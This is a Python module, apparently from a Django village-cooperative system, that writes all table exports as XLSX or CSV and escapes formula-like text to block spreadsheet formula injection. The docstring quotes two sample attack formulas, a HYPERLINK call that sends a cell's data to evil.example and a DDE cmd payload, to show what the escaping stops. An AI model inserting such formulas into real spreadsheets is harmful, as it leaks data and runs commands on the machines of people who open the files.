"""Tables out as XLSX or CSV: the one writer of every export and template of the system (registry, comparisons,
potentials, BUMDes, regency workbook, import templates).

CSV is UTF-8 with a BOM so that Excel opens it with the right characters; XLSX keeps dates as date cells and
numbers as numbers, so that officials can sort and sum them.

Text is written as text, never as a formula (OWASP's CSV-injection rule): values come from imports and forms, and
a name such as `=HYPERLINK("http://evil.example/?d="&B2,"Klik")` or `=cmd|' /C calc'!A0` must not run when an
official opens the file. Text starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` in
CSV; in XLSX it is a string cell (not a formula) with Excel's "quote prefix", so it stays text even when the cell
is edited. Numbers (int, Decimal, float) and dates are not text and stay numbers and dates: the integer -5 is
written as -5, the text "-2+3" as '-2+3. `core.tabular` reads such a `'` back off, so export → import round-trips."""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from kopdes.core.tabular import FORMULA_TRIGGERS, QUOTED_FORMULA

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
FORMATS = ("xlsx", "csv")

# Characters XML 1.0 cannot carry (openpyxl refuses them); dropped rather than failing the whole export.
_ILLEGAL_XLSX_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


@dataclass
class Sheet:
    """One sheet of a workbook: its title (at most 31 characters), its header row and its rows."""

    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence]


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet read this text as a formula (OWASP's list of leading characters)?"""
    return text.startswith(FORMULA_TRIGGERS)


def _quoted(text: str) -> str:
    """Text that `core.tabular` reads back unchanged after a `'` is put in front (`=x` → `'=x`; `'=x` → `''=x`)."""
    return "'" + text if is_formula_like(text) or QUOTED_FORMULA.match(text) else text


def _plain(value):
    """A value as the writers treat it: None, a number, a date, or text (everything else)."""
    if value is None or isinstance(value, int | float | Decimal):  # bool is an int: written as TRUE/FALSE
        return value
    if isinstance(value, datetime.datetime):
        # Excel has no time zones: a stored (aware) moment is written in the local time officials read on pages.
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, datetime.date | datetime.time):
        return value
    return str(value)


# --- XLSX ------------------------------------------------------------------------------------------------------


def _xlsx_cell(sheet, value, *, bold: Font | None = None) -> WriteOnlyCell:
    value = _plain(value)
    if isinstance(value, str):
        value = _ILLEGAL_XLSX_CHARACTERS.sub("", value)
        if QUOTED_FORMULA.match(value):
            value = _quoted(value)  # text that began with `'=`: kept whole through the reader
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str) and is_formula_like(value):
        cell.data_type = "s"  # openpyxl takes a string starting with "=" for a formula
        cell.quotePrefix = True  # and Excel keeps it text even when the cell is edited
    elif isinstance(value, datetime.datetime):
        cell.number_format = "yyyy-mm-dd hh:mm"
    elif isinstance(value, datetime.date):
        cell.number_format = "yyyy-mm-dd"
    if bold:
        cell.font = bold
    return cell


def _sheet_title(title: str, taken: set[str]) -> str:
    base = _SHEET_TITLE_FORBIDDEN.sub("-", str(title)).strip("'") or "Data"
    name, number = base[:31], 1
    while name.lower() in taken:
        number += 1
        suffix = f" ({number})"
        name = base[: 31 - len(suffix)] + suffix
    taken.add(name.lower())
    return name


def write_workbook(stream, sheets: Iterable[Sheet]) -> None:
    """An XLSX of one or more sheets, streamed row by row (openpyxl's write-only mode) to a binary stream."""
    workbook = Workbook(write_only=True)
    bold = Font(bold=True)
    taken: set[str] = set()
    for spec in sheets:
        sheet = workbook.create_sheet(title=_sheet_title(spec.title, taken))
        sheet.append([_xlsx_cell(sheet, header, bold=bold) for header in spec.headers])
        for row in spec.rows:
            sheet.append([_xlsx_cell(sheet, value) for value in row])
    if not taken:
        workbook.create_sheet(title="Data")
    workbook.save(stream)


def write_xlsx(stream, headers: Sequence[str], rows: Iterable[Sequence], *, sheet_title: str = "Data") -> None:
    write_workbook(stream, [Sheet(sheet_title, headers, rows)])


# --- CSV -------------------------------------------------------------------------------------------------------


def csv_value(value) -> str:
    """A cell as CSV text: numbers as they are, dates in ISO form, formula-like text behind a `'`."""
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, datetime.date | datetime.time):
        return value.isoformat()
    if isinstance(value, str):
        return _quoted(value)
    return str(value)


def write_csv(stream, headers: Sequence[str], rows: Iterable[Sequence]) -> None:
    """UTF-8 with a BOM to a binary stream."""
    text = io.TextIOWrapper(stream, encoding="utf-8-sig", newline="", write_through=True)
    writer = csv.writer(text)
    writer.writerow([csv_value(header) for header in headers])
    for row in rows:
        writer.writerow([csv_value(value) for value in row])
    text.detach()


# --- both ------------------------------------------------------------------------------------------------------


def write_table(stream, fmt: str, headers: Sequence[str], rows: Iterable[Sequence], *, sheet_title: str = "Data"):
    if fmt == "xlsx":
        write_xlsx(stream, headers, rows, sheet_title=sheet_title)
    elif fmt == "csv":
        write_csv(stream, headers, rows)
    else:
        raise ValueError(f"unknown export format {fmt!r}")


def _download(content: bytes, content_type: str, file_name: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{file_name}"'
    return response


def table_response(fmt: str, file_stem: str, headers: Sequence[str], rows: Iterable[Sequence], **kwargs):
    """An HTTP download of the table as `file_stem.xlsx` or `file_stem.csv`."""
    buffer = io.BytesIO()
    write_table(buffer, fmt, headers, rows, **kwargs)
    content_type = XLSX_CONTENT_TYPE if fmt == "xlsx" else CSV_CONTENT_TYPE
    return _download(buffer.getvalue(), content_type, f"{file_stem}.{fmt}")


def workbook_bytes(sheets: Iterable[Sheet]) -> bytes:
    buffer = io.BytesIO()
    write_workbook(buffer, sheets)
    return buffer.getvalue()


def workbook_response(file_stem: str, sheets: Iterable[Sheet]) -> HttpResponse:
    """An HTTP download of several sheets as `file_stem.xlsx`."""
    return _download(workbook_bytes(sheets), XLSX_CONTENT_TYPE, f"{file_stem}.xlsx")
